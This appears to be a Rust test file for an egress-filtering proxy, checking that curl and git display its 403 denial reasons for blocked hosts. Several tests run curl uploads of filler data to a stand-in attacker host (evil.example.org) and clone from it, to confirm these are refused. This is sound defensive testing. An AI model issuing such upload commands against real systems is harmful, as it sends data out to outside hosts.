//! Tests which parts of a denial curl and git show.

use std::process::Stdio;

use tokio::process::Command;

use super::fixture::{FixtureOptions, ProxyFixture};

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denied_upload_shows_its_response_to_curl() {
    let proxy = ProxyFixture::open().await;
    let file = proxy.directory.path().join("body");
    for (size, times) in [(10, 5), (100_000, 15), (1_500_000, 15), (12 << 20, 5)] {
        std::fs::write(&file, vec![b'x'; size]).expect("file");
        let data = format!("@{}", file.display());
        for version in ["--http2", "--http1.1"] {
            for time in 0..times {
                let answer = proxy
                    .curl(&[version, "--data-binary", &data, "-H", "Expect:", "https://evil.example.org/up"])
                    .await;
                assert_eq!(
                    (answer.error().as_str(), answer.header("x-bottle-reason").as_deref()),
                    ("", Some("host-not-allowed")),
                    "{version}, {size} bytes, attempt {time}"
                );
            }
        }
    }
}

/// A client that sends slowly is still sending its request when the response arrives.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denied_slow_upload_shows_its_response_to_curl() {
    let proxy = ProxyFixture::open().await;
    let file = proxy.directory.path().join("body");
    std::fs::write(&file, vec![b'x'; 600_000]).expect("file");
    let data = format!("@{}", file.display());
    for version in ["--http2", "--http1.1"] {
        for time in 0..3 {
            let slow = ["--limit-rate", "300k", "-H", "Expect:", "--data-binary", &data];
            let answer =
                proxy.curl(&[&[version][..], &slow, &["https://evil.example.org/up"]].concat()).await;
            assert_eq!(
                (answer.error().as_str(), answer.header("x-bottle-reason").as_deref()),
                ("", Some("host-not-allowed")),
                "{version}, attempt {time}"
            );
        }
    }
}

/// pip and npm show only the status line of a response.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_status_line_of_http1_has_the_reason() {
    let proxy = ProxyFixture::open().await;
    for (arguments, status_line) in [
        (&["--http1.1", "https://evil.example.org/a"][..], "HTTP/1.1 403 bottle: host-not-allowed\r\n"),
        (&["http://evil.example.org/a"], "HTTP/1.1 403 bottle: host-not-allowed\r\n"),
        (&["--head", "--http1.1", "https://evil.example.org/a"], "HTTP/1.1 403 bottle: host-not-allowed\r\n"),
        (&["-X", "TRACE", "--http1.1", "https://evil.example.org/a"], "HTTP/1.1 403 bottle: "),
        (&["--http2", "https://evil.example.org/a"], "HTTP/2 403 \r\n"),
    ] {
        let received = proxy.curl(arguments).await.text();
        assert!(received.contains(status_line), "{arguments:?}: {received}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_denied_head_request_has_no_body() {
    let proxy = ProxyFixture::open().await;
    for version in ["--http2", "--http1.1"] {
        let answer = proxy.curl(&[version, "--head", "https://evil.example.org/"]).await;
        assert_eq!((answer.status(), answer.error().as_str()), (403, ""), "{version}");
        assert!(answer.header("content-length").is_some_and(|length| length != "0"), "{version}");
    }
}

/// Runs git in the fixture's directory and returns its error output.
async fn git(proxy: &ProxyFixture, arguments: &[&str]) -> String {
    let output = Command::new("git")
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", proxy.directory.path())
        .env("GIT_TERMINAL_PROMPT", "0")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .args(["-c", &format!("http.proxy=http://{}", proxy.proxy)])
        .args(["-c", &format!("http.sslCAInfo={}", proxy.ca().display())])
        .args(arguments)
        .current_dir(proxy.directory.path())
        .stdin(Stdio::null())
        .output()
        .await
        .expect("git is installed");
    String::from_utf8_lossy(&output.stderr).into_owned()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn git_shows_the_sentence_of_a_denial() {
    let proxy = ProxyFixture::with(FixtureOptions::default()).await;
    let shown = git(&proxy, &["clone", "https://evil.example.org/owner/repo.git"]).await;
    assert!(shown.contains("remote: No route of this bottle allows `evil.example.org`."), "{shown}");
    let denial = proxy.denial().await;
    assert!(shown.contains(&format!("remote: Denial {} (host-not-allowed).", denial.id)), "{shown}");
    let shown = git(&proxy, &["ls-remote", "https://api.example.com/owner/repo.git"]).await;
    assert!(
        shown.contains("remote: The route of `api.example.com` does not allow git clone or fetch"),
        "{shown}"
    );
    git(&proxy, &["init", "--quiet", "work"]).await;
    let commit = [
        "-C",
        "work",
        "-c",
        "user.name=a",
        "-c",
        "user.email=a@b",
        "commit",
        "-q",
        "--allow-empty",
        "-m",
        "a",
    ];
    git(&proxy, &commit).await;
    let push = ["-C", "work", "push", "https://api.example.com/owner/repo.git", "HEAD:refs/heads/main"];
    let shown = git(&proxy, &push).await;
    assert!(
        shown.contains("remote: Pushes to `api.example.com` are denied here; push through the git gate"),
        "{shown}"
    );
}
